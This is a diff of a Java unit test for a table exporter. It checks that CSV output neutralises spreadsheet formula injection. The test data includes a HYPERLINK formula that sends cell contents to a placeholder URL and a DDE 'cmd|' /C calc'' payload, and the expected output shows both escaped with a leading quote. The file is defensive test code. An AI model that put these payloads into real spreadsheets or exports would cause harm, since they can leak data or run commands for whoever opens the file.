@@ -43,11 +43,11 @@ class TableTest {
         table.add(List.of("=HYPERLINK(\"http://x?\"&A2)", "@SUM(A1)", -0.1));
         table.add(List.of("-1+cmd|' /C calc'!A0", "a=b", Double.NEGATIVE_INFINITY));
 
-        assertThat(table.csv())
-                .isEqualTo(
-                        "name,'=class ml,low\n"
-                                + "\"'=HYPERLINK(\"\"http://x?\"\"&A2)\",'@SUM(A1),-0.1\n"
-                                + "'-1+cmd|' /C calc'!A0,a=b,-Infinity\n");
+        assertThat(table.csv().lines())
+                .containsExactly(
+                        "name,'=class ml,low",
+                        "\"'=HYPERLINK(\"\"http://x?\"\"&A2)\",'@SUM(A1),-0.1",
+                        "'-1+cmd|' /C calc'!A0,a=b,-Infinity");
         assertThat(table.markdown()).contains("| @SUM(A1) |");
     }
 
